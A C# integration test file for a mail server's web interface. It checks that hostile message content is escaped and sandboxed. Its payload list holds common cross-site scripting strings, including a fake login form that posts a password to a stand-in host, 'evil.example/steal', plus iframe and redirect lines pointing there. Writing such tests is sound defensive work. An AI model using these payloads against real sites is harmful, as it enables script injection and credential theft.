using System.Net;
using System.Text.Json;
using System.Text.RegularExpressions;
using FastMail.IntegrationTests.Harness;
using MimeKit;

namespace FastMail.IntegrationTests.Web;

/// <summary>
/// Hostile messages: their markup never reaches an app-origin page unescaped (the list and message JSON, the app's own
/// HTML), and their HTML body is only ever served from the sandboxed endpoint under the sandbox policy.
/// </summary>
public sealed partial class XssCorpusTests : IAsyncLifetime
{
    private const string SandboxPolicy = "sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'";

    public static readonly string[] Payloads =
    [
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
        "<svg/onload=alert(1)>",
        "<div style=\"width: expression(alert(1))\">css</div>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"password\"><button>Log in again</button></form>",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "\"><script>alert(1)</script>",
        "</textarea></title><script>alert(1)</script>",
        "<body onload=alert(1)>",
        "javascript:alert(1)",
        "<object data=\"https://evil.example/x.swf\"></object>",
    ];

    private TestServer _server = null!;
    private WebTestClient _web = null!;

    public async Task InitializeAsync()
    {
        _server = TestServer.Start(TestServer.Motriles);
        _web = new WebTestClient(_server.WebPort);
        var messages = new List<MimeMessage>();
        foreach (var payload in Payloads)
        {
            // The payload everywhere a message can carry text: display name, subject, text body, HTML body, a file name.
            var message = new MimeMessage();
            message.From.Add(new MailboxAddress(payload, "hostile@example.org"));
            message.To.Add(new MailboxAddress(payload, "motriles@" + TestServer.Domain));
            message.Subject = payload;
            var builder = new BodyBuilder { TextBody = "text " + payload + " https://example.org/\"><script>x</script>", HtmlBody = "<html><body>" + payload + "</body></html>" };
            builder.Attachments.Add(payload + ".html", System.Text.Encoding.UTF8.GetBytes(payload), new ContentType("text", "html"));
            message.Body = builder.ToMessageBody();
            messages.Add(message);
        }

        await WebTestClient.DeliverAsync(_server.SmtpPort, messages.ToArray());
        Assert.Equal(HttpStatusCode.OK, (await _web.LoginAsync("motriles", "jose")).StatusCode);
    }

    public async Task DisposeAsync()
    {
        _web.Dispose();
        await _server.DisposeAsync();
    }

    [Fact]
    public async Task HostileMarkupNeverReachesAnAppPageUnescaped()
    {
        var listResponse = await _web.GetAsync("/api/messages");
        var listJson = await listResponse.Content.ReadAsStringAsync();
        Assert.Equal("application/json", listResponse.Content.Headers.ContentType?.MediaType);
        AssertNoRawMarkup(listJson);
        using var list = JsonDocument.Parse(listJson);
        var ids = list.RootElement.GetProperty("messages").EnumerateArray().Select(m => m.GetProperty("id").GetInt64()).ToList();
        Assert.Equal(Payloads.Length, ids.Count);

        foreach (var id in ids)
        {
            var response = await _web.GetAsync($"/api/messages/{id}");
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            var json = await response.Content.ReadAsStringAsync();
            AssertNoRawMarkup(json);
            using var view = JsonDocument.Parse(json);

            // textHtml is inserted as markup by the app: only our own links may be in it, each to an http(s) URL.
            var textHtml = view.RootElement.GetProperty("textHtml").GetString()!;
            foreach (Match anchor in AnchorPattern().Matches(textHtml))
            {
                Assert.Matches("^https?://[^\"<>]*$", anchor.Groups[1].Value);
            }

            var withoutAnchors = AnchorPattern().Replace(textHtml, "").Replace("</a>", "", StringComparison.Ordinal);
            Assert.DoesNotContain('<', withoutAnchors);
            Assert.DoesNotContain('>', withoutAnchors);
            Assert.DoesNotContain('"', withoutAnchors);

            // The HTML body: only here, only under the sandbox.
            var html = await _web.GetAsync($"/api/messages/{id}/html");
            Assert.Equal(SandboxPolicy, html.Headers.GetValues("Content-Security-Policy").Single());
            Assert.Equal("nosniff", html.Headers.GetValues("X-Content-Type-Options").Single());

            // Attachments (an HTML file here) are downloads, never rendered as a page of this origin.
            foreach (var attachment in view.RootElement.GetProperty("attachments").EnumerateArray())
            {
                var part = await _web.GetAsync($"/api/messages/{id}/parts/{attachment.GetProperty("part").GetInt32()}");
                Assert.Equal("application/octet-stream", part.Content.Headers.ContentType?.MediaType);
                Assert.Equal("attachment", part.Content.Headers.ContentDisposition?.DispositionType);
                Assert.StartsWith("sandbox;", part.Headers.GetValues("Content-Security-Policy").Single(), StringComparison.Ordinal);
                var name = part.Content.Headers.ContentDisposition?.FileNameStar ?? part.Content.Headers.ContentDisposition?.FileName ?? "";
                Assert.DoesNotContain('/', name);
                Assert.DoesNotContain('"', name.Trim('"'));
            }
        }

        // The app's pages are static: no message content is ever in them.
        foreach (var page in new[] { "/", "/login", "/static/app.html", "/static/app.js" })
        {
            var body = await (await _web.GetAsync(page)).Content.ReadAsStringAsync();
            Assert.DoesNotContain("alert(", body, StringComparison.Ordinal);
            Assert.DoesNotContain("evil.example", body, StringComparison.Ordinal);
        }
    }

    /// <summary>JSON from the API escapes every &lt; and &gt; (as \u003C, \u003E), so no tag can be parsed out of it even if it were served as HTML.</summary>
    private static void AssertNoRawMarkup(string json)
    {
        Assert.DoesNotContain('<', json);
        Assert.DoesNotContain('>', json);
    }

    [GeneratedRegex("<a href=\"([^\"]*)\" rel=\"noopener noreferrer\" target=\"_blank\">")]
    private static partial Regex AnchorPattern();
}
